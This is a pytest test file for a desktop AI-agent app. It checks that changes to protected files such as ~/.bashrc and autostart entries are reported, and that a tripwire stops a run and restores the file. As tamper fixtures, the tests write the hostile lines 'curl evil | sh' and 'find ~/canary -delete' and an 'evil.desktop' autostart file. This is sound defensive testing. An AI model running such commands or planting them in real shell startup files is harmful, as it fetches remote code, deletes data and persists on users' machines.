"""The desktop app and the protected files (app/protected.py), offscreen: what changed since the
last run is told at start and as each run starts; a run the tripwire stopped is told in the
task window and a notification (here: the window, there is no notification service)."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest
from pytestqt.qtbot import QtBot

from app import protected
from app.events import Outcome, RunFinished
from app.pause import PauseGate
from app.run_request import RunRequest
from app.session import Session
from app.settings import Settings
from control.policy import ConfirmMode
from control.stop import StopLatch
from tests.support.app_rig import MakeApp, Rig
from tests.support.fake_targets import FakeTargetFinder, window
from tests.support.fake_vllm import ChatRequest, FakeVLLM, ScriptedPolicy
from tests.support.home import Home, isolate_home
from ui.app import HolodeskApp

CLICK = {"thought": "click", "action": {"action": "click", "element": "text", "x": 500,
                                        "y": 500}}
ANSWER = {"thought": "done", "action": {"action": "answer", "text": "finished"}}
TIMEOUT_MS = 20_000


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Home:
    home = isolate_home(monkeypatch, tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path / "empty-path"))  # no crontab here
    (home.root / ".bashrc").write_text("alias ll='ls -l'\n")
    return home


def _finished(rig: Rig) -> RunFinished | None:
    done = [e for e in rig.events if isinstance(e, RunFinished)]
    return done[-1] if done else None


def test_the_app_reports_files_changed_since_the_last_run_at_start(
        qtbot: QtBot, make_app: MakeApp, home: Home) -> None:
    protected.record(Settings())  # the last run ended
    (home.root / ".bashrc").write_text("curl evil | sh\n")
    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        app, _rig = make_app(server)
        app.report_changed_files()  # what run_gui calls as the app starts
        qtbot.waitUntil(lambda: ".bashrc" in app.task_window.error_label.text(),
                        timeout=TIMEOUT_MS)
    said = app.teller.told[-1]
    assert said.startswith("Protected files changed since the last holodesk run ended: "
                           f"{home.root / '.bashrc'} modified")
    assert "curl" not in said
    assert protected.changed_since_last_run(Settings()) == []  # told once


def test_each_run_start_reports_files_changed_since_the_last_one(
        qtbot: QtBot, make_app: MakeApp, home: Home) -> None:
    protected.record(Settings())
    (home.config / "autostart").mkdir(parents=True)
    (home.config / "autostart" / "evil.desktop").write_text("[Desktop Entry]\n")
    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        app, rig = make_app(server)
        assert app.start_task("look at the screen")
        qtbot.waitUntil(lambda: _finished(rig) is not None, timeout=TIMEOUT_MS)
        qtbot.waitUntil(lambda: "autostart" in app.task_window.error_label.text(),
                        timeout=TIMEOUT_MS)
    # Told as the run started (the run's end is told after it).
    assert any(f"{home.config / 'autostart'} created" in text for text in app.teller.told)


def test_a_run_stopped_by_the_tripwire_is_told_with_the_file_and_the_front(
        qtbot: QtBot, home: Home) -> None:
    """The run's session guards the protected files (as build_session's do); while the model
    thinks, ~/.bashrc is rewritten: the run ends stopped, the window and a notification say
    which file, that it was restored and which application was in front."""
    rc = home.root / ".bashrc"
    holder: list[HolodeskApp] = []

    def model(request: ChatRequest) -> str:
        if len(server.requests) == 2:
            rc.write_text("find ~/canary -delete\n")
            if not holder[0].controller.latch.wait(TIMEOUT_MS / 1000):
                raise AssertionError("the tripwire did not stop the run")
        return policy(request)

    policy = ScriptedPolicy([CLICK, CLICK, ANSWER])
    with FakeVLLM(model) as server:
        rig = Rig(server)

        def factory(request: RunRequest, latch: StopLatch, gate: PauseGate) -> Session:
            session = rig.factory(request, latch, gate)
            session.watch_protected_files(FakeTargetFinder(focus=window("Mousepad")))
            return session

        app = HolodeskApp(Settings(endpoint=server.base_url, settle_max=0.05),
                          session_factory=factory, use_system_tray=False, probe=False)
        holder.append(app)
        app.controller.run_event.connect(rig.events.append)
        try:
            assert app.start_task("tidy the shell settings", confirm=ConfirmMode.NEVER)
            qtbot.waitUntil(lambda: _finished(rig) is not None, timeout=TIMEOUT_MS)
            finished = _finished(rig)
            assert finished is not None and finished.outcome is Outcome.STOPPED
            qtbot.waitUntil(lambda: "Mousepad" in app.task_window.result_label.text(),
                            timeout=TIMEOUT_MS)
            shown = app.task_window.result_label.text()
            told = app.teller.told[-1]
        finally:
            app.close()
            qtbot.wait(50)
    assert rc.read_text() == "alias ll='ls -l'\n"
    for text in (shown, told):
        assert "protected files changed while Mousepad was in front" in text, text
        assert f"{rc} modified, restored" in text and "/holodesk/kept/" in text, text
    assert told.startswith("The run was stopped: stopped by tripwire")


def test_a_run_stopped_by_the_person_is_not_told_as_a_protected_file(
        qtbot: QtBot, make_app: MakeApp, home: Home) -> None:
    del home
    stopped = threading.Event()

    def model(request: ChatRequest) -> Any:
        stopped.wait(TIMEOUT_MS / 1000)
        return ScriptedPolicy([ANSWER])(request)

    with FakeVLLM(model) as server:
        app, rig = make_app(server)
        assert app.start_task("wait")
        qtbot.waitUntil(lambda: len(server.requests) >= 1, timeout=TIMEOUT_MS)
        app.actions.stop.trigger()
        stopped.set()
        qtbot.waitUntil(lambda: _finished(rig) is not None, timeout=TIMEOUT_MS)
    assert not any("The run was stopped" in e for e in app.teller.told)


def test_a_change_after_a_runs_last_look_is_told_once_the_run_is_closed(
        qtbot: QtBot, home: Home) -> None:
    """Nothing puts back what changed after the run's last look (the run had ended): the app
    tells it as the session closes (a notification), with the file."""
    rc = home.root / ".bashrc"
    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        rig = Rig(server)

        def factory(request: RunRequest, latch: StopLatch, gate: PauseGate) -> Session:
            session = rig.factory(request, latch, gate)
            session.watch_protected_files(FakeTargetFinder(focus=window("Mousepad")),
                                          watch=False)
            return session

        def act(event: object) -> None:
            if isinstance(event, RunFinished):  # on the worker, after the last look
                rc.write_text("curl evil | sh\n")

        app = HolodeskApp(Settings(endpoint=server.base_url, settle_max=0.05),
                          session_factory=factory, use_system_tray=False, probe=False)
        app.controller.run_event.connect(rig.events.append)
        app.controller._relay = _wrap(app.controller._relay, act)  # type: ignore[method-assign]
        try:
            assert app.start_task("look at the screen")
            qtbot.waitUntil(lambda: any(".bashrc" in e for e in app.teller.told),
                            timeout=TIMEOUT_MS)
            told = [e for e in app.teller.told if ".bashrc" in e]
        finally:
            app.close()
            qtbot.wait(50)
    assert told[0].startswith("Protected files changed after the run's last look"), told
    assert f"{rc} modified" in told[0]


def _wrap(relay: Any, act: Any) -> Any:
    def relay_and_act(event: Any) -> None:
        relay(event)
        act(event)

    return relay_and_act
